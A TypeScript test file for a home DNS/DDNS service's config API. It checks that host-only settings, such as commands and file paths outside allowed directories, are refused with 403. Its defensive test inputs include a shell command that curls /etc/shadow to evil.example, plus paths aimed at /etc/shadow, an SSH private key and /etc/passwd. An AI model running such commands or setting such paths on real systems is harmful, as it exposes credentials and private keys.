// The API token is not a shell, nor a key to every file hearth can read:
// commands hearth runs, and paths outside data_dir and the config file's
// directory, are changed in the file on the host only (403 over the API).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { start, type Harness, type Reply } from '../support/api-harness.ts';

/** A config as GET /config shows it: JSON to edit. */
type Body = Reply['body'];

const CONFIG = `dns:
  upstreams: { servers: ["udp://127.0.0.1:53"] }
ddns:
  ip: { source: command, command: ["/usr/local/bin/wan-ip", "--v4"] }
  records:
    - { provider: duckdns, name: myhome, token_file: /etc/hearth/duckdns.token }
`;

describe('changes over the API to what only the host may set', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await start(CONFIG);
  });
  afterAll(async () => h.close());

  const current = async () => (await h.call('GET', '/config')).body;

  it.each([
    [
      'a new ddns.ip.command',
      (c: Body) => {
        c.ddns.ip.command = ['/bin/sh', '-c', 'curl -d @/etc/shadow http://evil.example'];
      },
      ['ddns', 'ip', 'command'],
    ],
    [
      'a DDNS token file outside',
      (c: Body) => {
        c.ddns.records[0].token_file = '/etc/shadow';
      },
      ['ddns', 'records', 0, 'token_file'],
    ],
    [
      'a new record reading a file outside',
      (c: Body) => {
        c.ddns.records.push({
          provider: 'dyndns2',
          name: 'x.example.com',
          login: 'me',
          password_file: '/root/.ssh/id_ed25519',
          server: 'https://evil.example',
        });
      },
      ['ddns', 'records', 1, 'password_file'],
    ],
    [
      'a CA file outside',
      (c: Body) => {
        c.dns.upstreams.ca_file = '/etc/ssl/evil.pem';
      },
      ['dns', 'upstreams', 'ca_file'],
    ],
    [
      'zones_dir outside',
      (c: Body) => {
        c.dns.zones_dir = '/etc';
      },
      ['dns', 'zones_dir'],
    ],
    [
      'data_dir elsewhere',
      (c: Body) => {
        c.data_dir = '/tmp/elsewhere';
      },
      ['data_dir'],
    ],
    [
      'the API token file',
      (c: Body) => {
        c.api.token_file = '/etc/hearth/other.token';
      },
      ['api', 'token_file'],
    ],
    [
      'a cloaking file outside',
      (c: Body) => {
        c.dns.cloaking.files = ['/etc/passwd'];
      },
      ['dns', 'cloaking', 'files', 0],
    ],
    [
      'a local block list outside',
      (c: Body) => {
        c.dns.blocking.lists.push('/etc/passwd');
      },
      ['dns', 'blocking', 'lists', 1],
    ],
    [
      'a path escaping data_dir with ..',
      (c: Body) => {
        c.dns.zones_dir = join(c.data_dir, '../../etc');
      },
      ['dns', 'zones_dir'],
    ],
  ])('refuses %s with 403, and the config file stays as it was', async (_what, change, path) => {
    const before = readFileSync(h.file!, 'utf8');
    const config = await current();
    change(config);
    const reply = await h.call('PUT', '/config', { body: config });
    expect(reply.status).toBe(403);
    expect(reply.body.message).toMatch(/edit the config file on the host/);
    expect(reply.body.issues[0].path).toEqual(path);
    expect(readFileSync(h.file!, 'utf8')).toBe(before);
  });

  it('takes paths under data_dir or beside the config file, and what it already has unchanged', async () => {
    const config = await current();
    config.ddns.records[0].token_file = join(h.dir, 'duckdns.token');
    config.dns.zones_dir = join(config.data_dir, 'zones');
    config.dns.cloaking.files = [join(h.dir, 'lists', 'extra.txt')];
    expect((await h.call('PUT', '/config', { body: config })).status).toBe(200);
    expect(h.store.current.ddns.ip.command).toEqual(['/usr/local/bin/wan-ip', '--v4']);
  });

  it('refuses a block list file outside through POST /blocklists too', async () => {
    const reply = await h.call('POST', '/blocklists', { body: { path: '/etc/passwd' } });
    expect(reply.status).toBe(403);
    expect(h.store.current.dns.blocking.lists).not.toContain('/etc/passwd');
  });
});
